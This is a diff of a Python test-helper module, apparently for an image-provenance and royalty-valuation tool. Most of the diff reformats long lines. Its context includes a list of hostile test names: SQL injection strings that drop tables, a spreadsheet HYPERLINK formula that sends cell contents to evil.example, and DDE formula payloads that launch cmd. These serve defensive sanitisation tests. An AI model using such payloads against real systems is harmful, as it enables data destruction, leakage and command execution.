@@ -46,7 +46,7 @@ HOSTILE_NAMES = [
     "semi;colon; DROP TABLE gmv.owner; --",
     "'; DROP TABLE gmv.training_image; --",
     "Robert'); DROP TABLE gmv.match;--",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -88,7 +88,9 @@ def make_owner(conn: psycopg.Connection, name: str) -> int:
     return int(row[0])
 
 
-def make_license(conn: psycopg.Connection, name: str, *, royalty_bearing: bool = True, excluded: bool = False) -> int:
+def make_license(
+    conn: psycopg.Connection, name: str, *, royalty_bearing: bool = True, excluded: bool = False
+) -> int:
     """The licence's id, created (or updated to these flags) as needed."""
     row = conn.execute(
         "INSERT INTO gmv.license (name, royalty_bearing, excluded) VALUES (%s, %s, %s) "
@@ -215,7 +217,12 @@ def clustered_vectors(
 
 
 def numpy_knn(
-    training: np.ndarray, generated: np.ndarray, k: int, *, distance: str = "cosine", eligible: np.ndarray | None = None
+    training: np.ndarray,
+    generated: np.ndarray,
+    k: int,
+    *,
+    distance: str = "cosine",
+    eligible: np.ndarray | None = None,
 ) -> tuple[np.ndarray, np.ndarray]:
     """Exact k nearest neighbours (indices into training, distances), pgvector's distance definitions."""
     t = training.astype(np.float64)
@@ -249,15 +256,27 @@ def add_matches(
 ) -> None:
     """Exact top-k (numpy_knn) written to gmv.match, as the matcher would: seed data for value/report."""
     conn.execute("UPDATE gmv.embedding_space SET match_k = %s WHERE space_id = %s", (k, space.space_id))
-    order, dist = numpy_knn(training_vectors, generated_vectors, k, distance=space.distance, eligible=eligible)
-    with conn.cursor() as cur, cur.copy(
-        "COPY gmv.match (space_id, generated_id, rank, training_id, distance, k) FROM STDIN"
-    ) as copy:
+    order, dist = numpy_knn(
+        training_vectors, generated_vectors, k, distance=space.distance, eligible=eligible
+    )
+    with (
+        conn.cursor() as cur,
+        cur.copy(
+            "COPY gmv.match (space_id, generated_id, rank, training_id, distance, k) FROM STDIN"
+        ) as copy,
+    ):
         for j, generated_id in enumerate(generated_ids):
             for r in range(order.shape[1]):
                 if np.isfinite(dist[j, r]):
                     copy.write_row(
-                        (space.space_id, int(generated_id), r + 1, int(training_ids[order[j, r]]), float(dist[j, r]), k)
+                        (
+                            space.space_id,
+                            int(generated_id),
+                            r + 1,
+                            int(training_ids[order[j, r]]),
+                            float(dist[j, r]),
+                            k,
+                        )
                     )
 
 
@@ -331,7 +350,9 @@ def seed(
         run_id = make_run(conn, generator, run)
 
         training_owner = np.array([owner_ids[i % len(owner_ids)] for i in range(n_training)], dtype=np.int64)
-        training_license = np.array([license_ids[i % len(license_ids)] for i in range(n_training)], dtype=np.int64)
+        training_license = np.array(
+            [license_ids[i % len(license_ids)] for i in range(n_training)], dtype=np.int64
+        )
         if opted_out is not None:
             opted_out = np.asarray(opted_out, dtype=bool)
         elif opted_out_fraction:
@@ -363,10 +384,19 @@ def seed(
         eligible = ~opted_out & ~np.isin(training_license, list(excluded))
         if k is not None and with_matches:
             add_matches(
-                conn, emb_space, generated_ids, generated_vectors, training_ids, training_vectors, k, eligible=eligible
+                conn,
+                emb_space,
+                generated_ids,
+                generated_vectors,
+                training_ids,
+                training_vectors,
+                k,
+                eligible=eligible,
             )
         elif k is not None:
-            conn.execute("UPDATE gmv.embedding_space SET match_k = %s WHERE space_id = %s", (k, emb_space.space_id))
+            conn.execute(
+                "UPDATE gmv.embedding_space SET match_k = %s WHERE space_id = %s", (k, emb_space.space_id)
+            )
         if pool is not None:
             add_pool(conn, emb_space, pool)
     return {
@@ -389,7 +419,9 @@ def seed(
     }
 
 
-def add_pool(conn: psycopg.Connection, space, amount: str, period: str = DEFAULT_PERIOD, currency: str = "EUR") -> None:
+def add_pool(
+    conn: psycopg.Connection, space, amount: str, period: str = DEFAULT_PERIOD, currency: str = "EUR"
+) -> None:
     """A revenue pool for one month of the space under the default valuation scheme."""
     conn.execute(
         "INSERT INTO gmv.revenue_pool (period, amount, currency, space_id, scheme_id)"
@@ -398,7 +430,9 @@ def add_pool(conn: psycopg.Connection, space, amount: str, period: str = DEFAULT
     )
 
 
-def add_generated(conn: psycopg.Connection, world: dict[str, Any], n: int, *, start: int, seed: int = 1) -> np.ndarray:
+def add_generated(
+    conn: psycopg.Connection, world: dict[str, Any], n: int, *, start: int, seed: int = 1
+) -> np.ndarray:
     """n more generated images of the world's run with vectors (and exact matches when the world has k):
     something new for a refresh to publish. start keeps their identities apart from earlier calls."""
     rng = np.random.default_rng(seed)
@@ -411,7 +445,13 @@ def add_generated(conn: psycopg.Connection, world: dict[str, Any], n: int, *, st
         store.copy_vectors(conn, space, "generated", ids, vectors, source="factory")
         if world.get("k"):
             add_matches(
-                conn, space, ids, vectors, world["training_ids"], world["training_vectors"], world["k"],
+                conn,
+                space,
+                ids,
+                vectors,
+                world["training_ids"],
+                world["training_vectors"],
+                world["k"],
                 eligible=world.get("eligible"),
             )
     return ids
@@ -466,7 +506,9 @@ def fingerprint(conn: psycopg.Connection, relation: str, schema: str = "gmv") ->
     return count, digest
 
 
-def fingerprints(conn: psycopg.Connection, schema: str = "gmv", kinds: str = "r") -> dict[str, tuple[int, str]]:
+def fingerprints(
+    conn: psycopg.Connection, schema: str = "gmv", kinds: str = "r"
+) -> dict[str, tuple[int, str]]:
     return {rel: fingerprint(conn, rel, schema) for rel in relations(conn, schema, kinds)}
 
 
@@ -489,7 +531,9 @@ def refused(gmv, *args: object, reason: str) -> str:
     return lines[0]
 
 
-MEMORY_LIMIT = 2 << 30  # address space per bounded gmv process: ample for ingest and import, not for /dev/zero
+MEMORY_LIMIT = (
+    2 << 30
+)  # address space per bounded gmv process: ample for ingest and import, not for /dev/zero
 
 
 def _limit_memory() -> None:
@@ -498,7 +542,9 @@ def _limit_memory() -> None:
 
 def run_bounded(gmv, *args, timeout: float = 60) -> subprocess.CompletedProcess:
     """Run gmv as a process with a memory cap; a hang past timeout is a failure, not a stuck suite."""
-    proc = gmv.popen(*args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=_limit_memory)
+    proc = gmv.popen(
+        *args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=_limit_memory
+    )
     try:
         out, err = proc.communicate(timeout=timeout)
     except subprocess.TimeoutExpired:
